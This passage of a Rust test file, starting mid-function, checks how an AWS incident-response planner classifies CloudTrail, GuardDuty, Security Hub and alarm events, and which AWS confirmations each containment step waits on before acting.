        ..Policy::default()
    };
    let (name, request, _) = &changes[1];
    assert_eq!(plan_with(cloudtrail(name, deployer, request.clone()), &policy).decision, Decision::Ignore);
    let mut by_stack = cloudtrail(name, developer, request.clone());
    by_stack["detail"]["sourceIPAddress"] = json!("cloudformation.amazonaws.com");
    assert_eq!(plan(by_stack).decision, Decision::Ignore, "CloudFormation applying the stack");
}

/// The plan contract's `awaits`: each step `respond` takes only once AWS confirms something `plan` cannot
/// ask is marked with it, the same whatever delivered the incident. A Security Hub copy of GuardDuty's
/// finding lists what GuardDuty's own copy would warrant (its event's steps), every one awaiting it.
#[test]
fn every_step_that_waits_on_aws_is_marked_with_what_it_waits_for() {
    use crate::plan::Confirmation;
    let names: Vec<&str> = Confirmation::ALL.iter().map(|c| c.name()).collect();
    assert_eq!(names, ["guardduty_finding", "instance_role", "cloudwatch_alarm", "security_group_rules"]);
    for c in Confirmation::ALL {
        assert_eq!(serde_json::to_value(c).expect("json"), json!(c.name()), "the persisted name");
    }
    let marks = |plan: &Plan| -> Vec<(&'static str, Vec<Confirmation>)> {
        plan.actions.iter().map(|a| (a.step.name(), a.awaits.clone())).collect()
    };
    let guardduty = plan(sample("guardduty/ec2-backdoor-high-severity.json"));
    assert_eq!(guardduty.decision, Decision::Contain);
    for (name, awaits) in marks(&guardduty) {
        let expected = if name == "notify" { vec![] } else { vec![Confirmation::GuarddutyFinding] };
        assert_eq!(awaits, expected, "{name}");
    }
    for copy in ["securityhub/asff-guardduty-ec2-backdoor.json", "securityhub/ocsf-guardduty-ec2-backdoor.json"] {
        let delivered = plan(sample(copy));
        assert_eq!(delivered.decision, Decision::Contain, "{copy}: {:?}", delivered.reasons);
        assert!(delivered.reasons[0].contains("decided from GuardDuty's own copy"), "{copy}");
        // The same steps as GuardDuty's own event, the write-back aside, awaiting the same copy; the DNS
        // cut only where the copy names the domain (ASFF's product fields do, OCSF's copy does not).
        let steps: Vec<_> =
            marks(&delivered).into_iter().filter(|(n, _)| *n != "update_security_hub_finding").collect();
        let names_domain = copy.contains("asff");
        let expected: Vec<_> =
            marks(&guardduty).into_iter().filter(|(n, _)| names_domain || *n != "block_domain").collect();
        assert_eq!(steps, expected, "{copy}");
    }
    let exfiltration = plan(sample("guardduty/accesskey-credential-exfiltration.json"));
    let revoke = exfiltration.actions.iter().find(|a| a.step.name() == "revoke_instance_credentials").expect("planned");
    assert_eq!(revoke.awaits, [Confirmation::GuarddutyFinding, Confirmation::InstanceRole]);
    let idle = plan(sample("alarm/idle-cpu-eventbridge.json"));
    let stop = idle.actions.iter().find(|a| a.step.name() == "stop_instance").expect("planned");
    assert_eq!(stop.awaits, [Confirmation::CloudwatchAlarm]);
    let ingress = plan(sample("cloudtrail/sg-open-ssh-to-world.json"));
    let revoke = ingress.actions.iter().find(|a| a.step.name() == "revoke_security_group_ingress").expect("planned");
    assert_eq!(revoke.awaits, [Confirmation::SecurityGroupRules]);
    let rendered = serde_json::to_value(&ingress.actions).expect("json");
    assert_eq!(rendered[0]["awaits"], json!(["security_group_rules"]), "{rendered}");
    assert!(rendered.as_array().expect("list").last().expect("notify").get("awaits").is_none(), "no mark, no field");
}
